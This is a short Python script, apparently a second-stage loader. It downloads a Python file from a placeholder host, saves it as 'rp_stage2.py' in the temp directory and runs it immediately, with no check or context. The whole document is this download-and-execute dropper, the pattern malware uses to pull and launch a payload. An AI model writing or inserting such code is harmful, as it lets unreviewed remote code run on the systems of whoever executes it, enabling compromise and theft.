import os
import runpy
import tempfile
import urllib.request

p = os.path.join(tempfile.gettempdir(), "rp_stage2.py")
with open(p, "wb") as fh:
    fh.write(urllib.request.urlopen("https://rp.example.invalid/s.py").read())
runpy.run_path(p)
